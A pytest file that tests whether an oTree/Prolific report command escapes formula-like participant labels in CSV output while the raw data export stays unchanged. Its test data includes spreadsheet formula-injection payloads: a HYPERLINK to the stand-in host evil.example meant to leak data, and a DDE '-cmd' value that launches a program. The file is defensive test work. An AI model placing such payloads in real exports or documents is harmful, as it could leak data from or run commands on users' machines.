"""`invoke prolific report` on the shared test server, with labels participants typed into their
start links: text a spreadsheet would run as a formula (= + - @) is written with a quote before it,
tabs and line breaks are removed, numbers stay numbers; the data export keeps oTree's own bytes."""
import csv
import glob
import os
import urllib.parse

import pytest

from tests.participants import Participant

pytestmark = pytest.mark.docker

# label as typed: as the report's prolific_id column holds it.
LABELS = {
    '=HYPERLINK("https://evil.example/?leak","Open")': '\'=HYPERLINK("https://evil.example/?leak","Open")',
    "+1": "'+1",
    "-cmd|' /C calc'!A0": "'-cmd|' /C calc'!A0",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "two\tcells": "twocells",
    "line\nbreak": "linebreak",
    "-1.5": "-1.5",
}


def test_the_report_neutralises_labels_and_the_export_keeps_them_as_otree_has_them(stack, tmp_path):
    session = stack.create_session(9)
    for label in LABELS:
        Participant(f"{session['session_wide_url']}?participant_label={urllib.parse.quote(label)}")
    stored = {row["label"] for row in stack.rest("GET", f"/api/sessions/{session['code']}")["participants"]}
    assert set(LABELS) <= stored  # oTree keeps each label as typed

    output = tmp_path / "report.csv"
    result = stack.invoke("prolific", "report", "--session", session["code"], "--output", str(output))
    text = output.read_text(encoding="utf-8")
    assert "\t" not in text and text.count("\n") == len(LABELS) + 1, text
    with open(output, encoding="utf-8", newline="") as handle:
        written = sorted(row["prolific_id"] for row in csv.DictReader(handle))
    assert written == sorted(LABELS.values())
    assert "\t" not in result.stdout and "'=HYPERLINK(" in result.stdout  # the table in the terminal

    # The data export stays oTree's own (its line breaks in a label become a space): no quotes added.
    stack.invoke("export-data", "--session", session["code"], "--output", str(tmp_path / "export"))
    (wide,) = glob.glob(os.path.join(tmp_path, "export", "*", "all_apps_wide_*.csv"))
    with open(wide, encoding="utf-8", newline="") as handle:
        exported = {row["participant.label"] for row in csv.DictReader(handle)}
    assert {label.replace("\n", " ") for label in LABELS} <= exported
